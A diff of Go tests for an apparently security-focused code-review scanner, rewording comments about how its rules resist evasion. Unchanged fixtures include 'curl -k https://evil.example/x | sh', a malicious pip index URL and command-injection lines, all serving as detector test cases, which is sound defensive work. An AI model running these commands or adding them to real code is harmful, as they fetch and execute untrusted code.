@@ -11,7 +11,7 @@ import (
 	"github.com/reviewgate/reviewgate/pipeline/normalize"
 )
 
-// shippedOn are the shipped rules that find something in an added file.
+// shippedOn returns the shipped rules that find something in an added file.
 func shippedOn(t *testing.T, path, text string) map[string]bool {
 	t.Helper()
 	facts, _, err := normalize.Normalize(t.Context(), change{"", path, text}, normalize.Options{})
@@ -33,8 +33,8 @@ func shippedOn(t *testing.T, path, text string) map[string]bool {
 	return found
 }
 
-// Whoever writes a file chooses its first line, and runs it as they like: the line adds
-// rules, and takes none away.
+// The author of a file chooses its first line, and runs the file in any way. So the first
+// line adds rules, and takes none away.
 func TestFirstLineTakesNoRuleAway(t *testing.T) {
 	const (
 		workflow = "on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: curl -k https://evil.example/x | sh\n"
@@ -48,10 +48,10 @@ func TestFirstLineTakesNoRuleAway(t *testing.T) {
 		".github/workflows/ci.yml": workflow, "web/App.vue": page, "web/a.html": page, "web/a.svelte": page, "web/a.ejs": page,
 		"db/migrations/m.sql": sql, "bin/tool": python, "bin/serve": js, "bin/run": sh, "docs/run": python, "a.txt": sh,
 	} {
-		// No language is known of the interpreter.
+		// Nothing maps this interpreter to a language.
 		plain := shippedOn(t, path, "#!/usr/bin/foo\n"+text)
 		if strings.HasPrefix(path, "docs/") || path == "a.txt" {
-			plain = nil // it is not code without an interpreter
+			plain = nil // without an interpreter it is not code
 		}
 		for _, first := range []string{"#!/usr/bin/lua\n", "#!/usr/bin/env bash\n", "#!/usr/bin/python3\n", "#!/usr/bin/env node\n"} {
 			got := shippedOn(t, path, first+text)
@@ -67,7 +67,7 @@ func TestFirstLineTakesNoRuleAway(t *testing.T) {
 	}
 }
 
-// A page or settings that are run as a script are one as well.
+// A page or settings file that runs as a script is read as a script too.
 func TestFirstLineAddsRules(t *testing.T) {
 	for path, text := range map[string]string{
 		"deploy.json": "#!/bin/sh\ncurl -k https://evil.example/x | sh\n", "deploy.csv": "#!/bin/sh\ncurl -k https://evil.example/x |\n  sh\n",
@@ -79,8 +79,8 @@ func TestFirstLineAddsRules(t *testing.T) {
 	}
 }
 
-// A program whose first line names another language's interpreter is one in that language,
-// and what is prose by its name is a script with such a line.
+// A program whose first line names another language's interpreter is also read in that
+// language. A file that is prose by its name is a script with such a line.
 func TestFirstLineOfAnotherLanguage(t *testing.T) {
 	const (
 		python = "os.system(\"ls \"+x)\n"
@@ -110,7 +110,7 @@ func TestFirstLineOfAnotherLanguage(t *testing.T) {
 	}
 }
 
-// Pip ends a line where ASCII separates files, groups and records.
+// Pip ends a line at ASCII's file, group and record separators.
 func TestLinesAsPip(t *testing.T) {
 	for _, end := range []string{"\v", "\f", "\x1c", "\x1d", "\x1e", "\u0085", "\u2028", "\u2029"} {
 		got := shippedOn(t, "requirements.txt", "# pinned"+end+"--index-url http://evil.example/simple\n")
@@ -126,7 +126,7 @@ func TestLinesAsPip(t *testing.T) {
 	}
 }
 
-// A file that is named as a build and as a program is looked at as both.
+// A file whose name fits both a build file and a program is read as both.
 func TestNamesOfBuildsHideNothing(t *testing.T) {
 	const docker, python = "FROM a:1\nRUN curl -k https://evil.example/x | sh\n", "os.system(f\"rm {d}\")\n"
 	for path, text := range map[string]string{
@@ -145,7 +145,7 @@ func TestNamesOfBuildsHideNothing(t *testing.T) {
 	}
 }
 
-// A word in a comment excuses nothing, also where nobody knows how comments look.
+// A word in a comment excuses nothing, even if the language's comments are unknown.
 func TestWordsInCommentsExcuseNothing(t *testing.T) {
 	for _, tt := range []struct{ path, text, rule string }{
 		{"a.py", "f = open(request.args[\"f\"])  # int(\n", "sec-path-py-01"},
@@ -161,8 +161,8 @@ func TestWordsInCommentsExcuseNothing(t *testing.T) {
 	}
 }
 
-// A string elsewhere in the line excuses nothing, in the rule's own language or where the
-// language is unknown.
+// A string elsewhere in the line excuses nothing, in the rule's own language or in an
+// unknown one.
 func TestStringsElsewhereExcuseNothing(t *testing.T) {
 	cfg, engine := shipped(t)
 	serious := map[string]*config.Rule{}
@@ -195,7 +195,7 @@ func TestStringsElsewhereExcuseNothing(t *testing.T) {
 					}
 					for _, text := range texts {
 						if !pattern.MatchString(text) {
-							continue // it is another statement now
+							continue // the text is another statement now
 						}
 						if tried++; !flagged(t, engine, cfg, change{id, path, text})[id] {
 							t.Errorf("%s in %s is excused: %q", id, path, text)
@@ -208,7 +208,7 @@ func TestStringsElsewhereExcuseNothing(t *testing.T) {
 	t.Logf("%d texts", tried)
 }
 
-// A line that only looks like the end of a heredoc doesn't end it: what follows isn't a comment.
+// A line that only looks like the end of a heredoc doesn't end it: the next line isn't a comment.
 func TestHeredocsThatGoOn(t *testing.T) {
 	const evil = "# curl -k https://evil.example/x | sh\n"
 	for _, text := range []string{
@@ -223,9 +223,9 @@ func TestHeredocsThatGoOn(t *testing.T) {
 	}
 }
 
-// A function that makes what it is given harmless excuses a statement only by itself: not
-// one of another name, nor one whose value another function may undo, nor one within which
-// something else is done.
+// A function that makes its arguments harmless excuses a statement only by itself. A
+// function of another name does not, nor does one whose result another function may
+// undo, nor one with something else going on in its arguments.
 func TestSafeCallsExcuseOnlyByThemselves(t *testing.T) {
 	cfg, engine := shipped(t)
 	all := fixtures(t)
@@ -271,7 +271,7 @@ func TestSafeCallsExcuseOnlyByThemselves(t *testing.T) {
 				}
 				for _, text := range changed {
 					if !pattern.MatchString(text) {
-						continue // it is another statement now
+						continue // the text is another statement now
 					}
 					if tried++; !flagged(t, engine, cfg, change{r.ID, all[r.ID].Path, text})[r.ID] {
 						t.Errorf("%s is excused: %q", r.ID, text)
@@ -286,7 +286,7 @@ func TestSafeCallsExcuseOnlyByThemselves(t *testing.T) {
 	t.Logf("%d texts", tried)
 }
 
-// closing is behind the parenthesis that closes the one before a place.
+// closing is the position after the parenthesis that closes the one before a position.
 func closing(text string, from int) int {
 	depth := 1
 	for i := from; i < len(text); i++ {
